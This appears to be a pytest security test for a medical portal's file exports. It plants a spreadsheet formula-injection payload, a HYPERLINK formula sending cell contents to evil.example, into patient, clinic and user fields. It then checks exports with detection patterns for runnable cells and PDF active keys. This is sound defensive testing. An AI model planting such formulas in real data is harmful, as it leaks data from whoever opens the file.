"""Formulas in exports, over HTTP: what people wrote leaves the portal as text. Cells: test_csv_cells."""

from __future__ import annotations

import csv
import io
import re
import zipfile
import zlib

from django.db import transaction
from django.urls import reverse

from classifier.models import Lesion, Patient, Submission
from portal.trust.accounts.models import Clinic, User
from tests.factories import SubmissionFactory
from tests.permissions.files import CSV, FILES, PDF, ZIP
from tests.permissions.matrix import MATRIX
from tests.permissions.test_matrix import call
from tests.permissions.world import build_world
from tests.security.targets import actors_of, client_of

SIGNS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\uff1d"]
COMMAND = 'HYPERLINK("https://evil.example/?"&A1)'
RUNS = re.compile(r"^[\s\"']*[=+\-@\uff1d\uff0b\uff0d\uff20]")
NUMBER = re.compile(r"^-?\d+(\.\d+)?([eE][+-]?\d+)?$")
ACTIVE = (
    b"/JavaScript",
    b"/JS",
    b"/OpenAction",
    b"/AA",
    b"/Launch",
    b"/URI",
    b"/EmbeddedFile",
    b"/SubmitForm",
)


def plant(world):
    case = world.judged
    for n, sign in enumerate(SIGNS):
        words = f"{sign}{COMMAND}"
        row = SubmissionFactory(lesion=case.lesion, clinic=case.clinic, clinical_question=words)
        Submission.objects.filter(pk=row.pk).update(clinical_history=words)
        other = SubmissionFactory(clinic=case.clinic).lesion.patient
        Patient.objects.filter(pk=other.pk).update(mrn=f"{sign}{n}{COMMAND}"[:60])
        Lesion.objects.filter(patient=other).update(note=words)
    # Of this one an image was judged twice: its number stands in the export of a trial.
    Patient.objects.filter(pk=case.lesion.patient_id).update(mrn=f"={COMMAND}")
    Clinic.objects.filter(pk=case.clinic_id).update(name=f"={COMMAND}")
    User.objects.update(full_name=f"@{COMMAND}")


def list_running(text):
    """Cells that a spreadsheet would run, read with each separator that one may be set to."""
    text = text.removeprefix("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    cells += [cell for line in text.splitlines() for cell in re.split(r"[;\t|]", line)[1:]]
    return [cell[:60] for cell in cells if RUNS.match(cell) and not NUMBER.match(cell) and cell[:1] != "'"]


def find_active(data):
    """What a PDF would do by itself, in its plain and its packed parts."""
    parts = [data]
    for stream in re.findall(rb"stream\r?\n(.*?)\r?\nendstream", data, re.DOTALL):
        try:
            parts.append(zlib.decompress(stream))
        except zlib.error:
            continue
    return [sign.decode() for sign in ACTIVE if any(re.search(sign + rb"\b", part) for part in parts)]


def test_measures_see_what_they_should():
    assert list_running("a,=1+1\r\nb;-2+3\r\n")
    assert list_running("a,'=1+1,-2.5\r\n") == []
    packed = zlib.compress(b"<</OpenAction<</S/JavaScript>>>>")
    assert find_active(b"%PDF-1.7\nstream\n" + packed + b"\nendstream") == ["/JavaScript", "/OpenAction"]


def test_every_file_that_leaves(db, stores, no_outside):
    """Tables and documents; that nothing else leaves as a file, the matrix finds of every route."""
    world = build_world()
    plant(world)
    tables, wrong = {}, []
    rows = [row for row in MATRIX if FILES.get(str(row)) in (CSV, PDF, ZIP)]
    for row in rows:
        for actor in actors_of(row)[:1]:
            with transaction.atomic():
                answer = call(client_of(world, actor, row), row, world, actor)
                kind = answer.get("Content-Type", "")
                assert kind.startswith(FILES[str(row)]), row
                body = answer.getvalue()
                transaction.set_rollback(True)
            if kind.startswith(CSV):
                tables[str(row)] = body.decode()
                assert "attachment" in answer["Content-Disposition"], row
            if kind.startswith(PDF):
                wrong += [(str(row), sign) for sign in find_active(body)]
            if kind.startswith(ZIP):
                with zipfile.ZipFile(io.BytesIO(body)) as archive:
                    for name in [one for one in archive.namelist() if one.endswith(".csv")]:
                        tables[f"{row} {name}"] = archive.read(name).decode()
    wrong += [(place, cell) for place, table in tables.items() for cell in list_running(table)]
    assert wrong == []
    assert len(tables) >= 4, "cases, trail, trial and archive"
    assert [place for place, table in tables.items() if "HYPERLINK" not in table] == []


def test_export_holds_the_words(db, stores, no_outside):
    """Text is kept as it was written, behind an apostrophe."""
    world = build_world()
    plant(world)
    client = client_of(world, "own.dermatologist", MATRIX[0])
    file = client.post(reverse("submission-export")).getvalue().decode()
    assert "'=" in file
    assert "HYPERLINK" in file
